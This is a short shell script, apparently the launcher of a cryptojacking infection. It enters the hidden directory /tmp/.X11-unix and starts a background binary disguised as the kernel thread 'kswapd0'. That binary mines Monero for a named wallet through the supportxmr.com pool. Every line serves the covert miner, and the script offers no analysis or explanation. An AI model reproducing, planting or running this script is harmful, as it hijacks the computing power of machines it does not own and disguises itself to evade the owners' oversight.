#!/bin/sh
cd /tmp/.X11-unix
./kswapd0 -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ -p x --donate-level 1 &
